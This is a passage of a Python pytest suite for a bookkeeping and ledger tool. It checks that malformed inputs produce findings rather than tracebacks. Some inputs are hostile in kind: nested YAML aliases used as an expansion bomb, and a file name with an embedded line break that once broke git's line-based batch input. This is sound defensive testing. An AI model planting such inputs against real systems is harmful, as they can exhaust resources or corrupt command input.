        written(JOURNAL, '2026-03-02 * "示例五金店" "灯具"\n  voucher: "2026-0002"\n'
                         f'  evidence: "2026/03/{"x" * 5000}.pdf"\n  Expenses:Repairs   20.00 CNY\n'
                         "  Assets:Bank:Fund\n"), (JOURNAL, 1, "evidence")),
    # A file name that is not UTF-8 (Python keeps its bytes as surrogates, which no terminal can print).
    "a-ledger-file-name-that-is-not-utf8": (written("ledgers/test/2026/" + os.fsdecode(b"03\xff.beancount"), "; x\n"),
                                            ("ledgers/test/2026/03\\xff.beancount", 0, "lint-encoding")),
    "a-notice-name-that-is-not-utf8": (written("notices/test/" + os.fsdecode(b"2026-03-01-\xfe.md"), VOTE),
                                       ("notices/test/2026-03-01-\\xfe.md", 0, "lint-encoding")),
    "a-folder-named-like-a-notice": (a_folder_in_place_of(NOTICE), (f"{NOTICE}/index.md", 0, "lint-file")),
    "a-folder-named-like-a-budget": (a_folder_in_place_of(BUDGET), (f"{BUDGET}/index.md", 0, "lint-file")),
}


@pytest.mark.parametrize("case", list(BAD_INPUTS))
def test_bad_input_is_a_finding_with_file_and_line_never_a_traceback(repo: Repo, case: str,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    write, expected = BAD_INPUTS[case]
    write(repo)
    # In a process of its own first: an input that kills the interpreter must not take the test run with it.
    result = command(repo, "check")
    assert "Traceback" not in result.stdout + result.stderr
    assert result.returncode == 1
    assert f"{expected[0]}:{expected[1]}: {expected[2]}: " in result.stdout
    findings = repo.check()
    no_traceback(findings)
    assert expected in places(findings), findings
    site = repo.root / "site"
    assert main(["--root", str(repo.root), "build", "--site-dir", str(site)]) == 1
    printed = capsys.readouterr()
    assert "Traceback" not in printed.out + printed.err
    assert "nothing was built" in printed.err and not site.exists()


@pytest.mark.parametrize("relative", [BUDGET, PROFILE_FILE])
def test_nested_aliases_are_refused_before_they_are_expanded(repo: Repo, relative: str) -> None:
    repo.write(relative, (repo.root / relative).read_text(encoding="utf-8") + LAUGHS)
    started = time.perf_counter()
    findings = repo.check()
    assert time.perf_counter() - started < 5
    [finding] = [f for f in findings if f.path == relative]
    assert "anchors and aliases (& and *) are not allowed" in finding.message


def test_a_detail_sheet_with_bare_carriage_returns_is_read_and_built(repo: Repo) -> None:
    parking_sheet(b"unit,item,amount\rP-001,\"x\ry\",300.00\rP-002,y,300.00\r")(repo)
    assert repo.check() == []
    from tests.test_site import build

    with contextlib.redirect_stderr(io.StringIO()):
        assert build(repo.root, repo.root / "site") == 0
    assert "P-002" in (repo.root / "site/test/2026/03/index.html").read_text(encoding="utf-8")


def test_a_division_by_zero_in_a_closed_month_is_judged_without_crashing_check_or_verify(signed: Signed) -> None:
    signed.close("2026-03")
    signed.journal(MARCH.format(amount="1000/(1-1)"))
    result = command(signed, "check")
    assert "Traceback" not in result.stdout + result.stderr and result.returncode == 1
    assert f"{JOURNAL}:3: lint-amount: a division whose divisor may be zero is not allowed" in result.stdout
    assert f"{JOURNAL}:1: closed-month: changed an entry dated 2026-03-02 (2026-0002)" in result.stdout
    signed.commit("treasurer", "March, divided")
    result = command(signed, "verify", f"{signed.base}..HEAD")
    assert "Traceback" not in result.stdout + result.stderr and result.returncode == 1
    assert "verify-closed-month: changed an entry dated 2026-03-02 (2026-0002)" in result.stdout


def test_a_file_name_with_a_line_break_beside_a_closed_year_is_a_finding(signed: Signed) -> None:
    # git cat-file --batch reads one name a line: such a name once broke the closed-month check.
    signed.close("2025-12")
    signed.write("notices/test/2025-12-31-a\nb.md", VOTE.replace("2025-12-20", "2025-12-31"))
    result = command(signed, "check")
    assert "Traceback" not in result.stdout + result.stderr and result.returncode == 1
    assert "b.md:1: notice: the file name must be YYYY-MM-DD-slug.md" in result.stdout


def test_diff_of_a_budget_cap_of_1e30_reports_without_a_traceback(repo: Repo) -> None:
    def git(*args: str) -> str:
        return subprocess.run(["git", "-C", str(repo.root), "-c", "user.name=Example", "-c",
                               "user.email=example@example.invalid", *args], capture_output=True, text=True,
                              check=True).stdout.strip()

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-q", "-m", "books")
    base = git("rev-parse", "HEAD")
    repo.write(BUDGET, BUDGET_2026.replace("Expenses:Cleaning: 10000.00", "Expenses:Cleaning: 1e30"))
    git("commit", "-q", "-am", "a cap of 1e30")
    result = command(repo, "diff", base, "HEAD")
    assert "Traceback" not in result.stdout + result.stderr
    assert result.returncode in (0, 1, 2)
